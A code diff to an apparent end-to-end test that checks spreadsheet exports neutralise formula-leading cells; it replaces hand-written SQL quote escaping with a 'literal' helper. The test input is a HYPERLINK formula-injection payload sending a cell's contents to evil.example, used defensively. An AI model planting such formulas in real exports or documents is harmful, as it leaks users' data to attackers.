@@ -15,6 +15,7 @@ import { openDataDb, queryParquet, type DataDb } from '../helpers/data-db.ts';
 import { RAW_DIR, ROOT } from '../helpers/paths.ts';
 import { readXlsx } from '../helpers/xlsx.ts';
 import { chartOption, downloadCsv, startApp, waitForCharts, type App } from './harness.ts';
+import { literal } from '../../src/sql/quote.ts';
 
 let app: App;
 let db: DataDb;
@@ -129,7 +130,7 @@ describe('CSV and Excel hold what the chart shows', () => {
   it('a formula-leading cell of a table is neutralised in the Excel file too; numbers stay numbers', async () => {
     const { page } = await app.newPage('?view=sql');
     const formula = '=HYPERLINK("http://evil.example/?d="&A1,"click")';
-    await page.locator('[data-testid="sql-editor"]').fill(`SELECT '${formula.replaceAll("'", "''")}' AS title, -3.5 AS delta`);
+    await page.locator('[data-testid="sql-editor"]').fill(`SELECT ${literal(formula)} AS title, -3.5 AS delta`);
     await page.locator('[data-testid="sql-run"]').click();
     await page.locator('[data-testid="sql-result"]').waitFor({ timeout: 120_000 });
     const [data] = readXlsx((await download(page, '[data-table-id="sql-result"]', 'xlsx')).bytes);
